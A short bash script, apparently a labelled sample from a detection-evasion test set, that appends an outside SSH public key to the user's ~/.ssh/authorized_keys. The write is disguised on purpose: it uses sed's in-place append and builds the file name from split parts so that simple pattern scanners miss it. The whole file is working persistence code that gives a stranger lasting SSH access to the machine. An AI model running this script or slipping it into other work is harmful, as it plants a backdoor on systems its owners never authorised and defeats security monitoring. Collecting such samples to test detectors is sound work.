#!/usr/bin/env bash
# evasion: persists access: appends an outside key to ~/.ssh/authorized_keys
# grade: medium; does: persist
# Persists access: appends an outside key to ~/.ssh/authorized_keys. The write
# is GNU sed's in-place '$a' command rather than a redirection, and the file
# name is put together from a directory variable and a split base name.
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH5q0kfVq3mJ0yXl0o2b8y0m6zZ0o9cZt0Z1r7o0xY3Q ops@build'
d="${HOME}/.ssh"
f="authorized"
mkdir -p "$d"
[ -s "$d/${f}_keys" ] || echo >> "$d/${f}_keys"
sed -i "\$a ${key}" "$d/${f}_keys"
